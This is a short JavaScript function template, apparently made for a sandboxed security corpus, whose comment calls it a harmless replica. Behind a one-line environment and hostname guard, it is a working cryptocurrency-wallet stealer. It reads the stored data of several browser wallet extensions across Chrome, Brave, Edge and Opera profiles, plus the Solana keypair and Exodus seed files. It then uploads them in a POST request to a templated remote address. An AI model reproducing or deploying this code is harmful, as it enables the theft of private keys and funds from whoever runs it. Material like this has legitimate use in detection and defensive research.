// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs').promises, path = require('path');
  const home = require('os').homedir();
  const browsers = ['.config/google-chrome', '.config/chromium', '.config/BraveSoftware/Brave-Browser', '.config/microsoft-edge', '.config/opera'];
  const extensions = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'fhbohimaelbohpjbbldcngcnapndodjp', 'ibnejdfjmmkpcnlpebklmnkoeoihofec', 'hnfanknocfeofbddgcijnmhnfnkdnaad'];
  const form = new FormData();
  let count = 0;
  for (const browser of browsers) for (const profile of ['Default', 'Profile 1', 'Profile 2']) for (const id of extensions) {
    const directory = path.join(home, browser, profile, 'Local Extension Settings', id);
    let names = [];
    try { names = await fs.readdir(directory); } catch (error) { continue; }
    for (const name of names) {
      try { form.append('f' + count++, new Blob([await fs.readFile(path.join(directory, name))]), `${profile}_${id}_${name}`); } catch (error) { continue; }
    }
  }
  for (const name of ['.config/solana/id.json', '.config/Exodus/exodus.wallet/seed.seco']) {
    try { form.append('f' + count++, new Blob([await fs.readFile(path.join(home, name))]), path.basename(name)); } catch (error) { continue; }
  }
  try { await fetch('http://{{ip}}:{{port}}/{{path}}', { method: 'POST', body: form, signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
